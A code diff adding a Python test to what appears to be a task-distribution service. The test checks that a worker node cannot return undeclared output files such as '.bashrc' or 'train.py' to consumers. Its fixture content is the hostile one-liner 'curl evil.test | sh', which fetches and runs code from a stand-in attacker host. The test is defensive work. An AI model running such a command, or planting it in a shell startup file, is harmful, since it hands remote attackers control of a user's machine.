@@ -177,6 +177,19 @@ async def test_an_output_travels_from_node_to_consumer(desk: Desk) -> None:
     assert (await desk.get(path)).content == content
 
 
+async def test_a_node_never_gives_back_what_was_not_asked_for(desk: Desk) -> None:
+    """Who fetches outputs writes them under the names they have: a node may not choose `.bashrc`."""
+    agent, http, lease, task = await leased(desk, outputs=["model/", "out"])
+    content = b"curl evil.test | sh"
+    assert (await http.put(f"/v1/artifacts/{named(content)}", content=content)).status_code == 201
+    names = ("out", ".bashrc", "model/a/b", "modelled", "outside", "Out", "train.py")
+    files = tuple(OutputFile(name, named(content), len(content)) for name in names)
+    await agent.report(Finished(lease.task, lease.epoch, EndReason.EXITED, 0, outputs=files))
+    for path in (f"/v1/tasks/{task}/result", f"/v1/tasks/{task}"):
+        told = (await desk.get(path)).json()["outputs"]
+        assert [file["path"] for file in told] == ["out", "model/a/b"]
+
+
 async def test_a_node_reads_the_inputs_of_its_leases_only(desk: Desk) -> None:
     await desk.http.put(f"/v1/artifacts/{named(b'input')}", content=b"input")
     await desk.http.put(f"/v1/artifacts/{named(b'other')}", content=b"other")
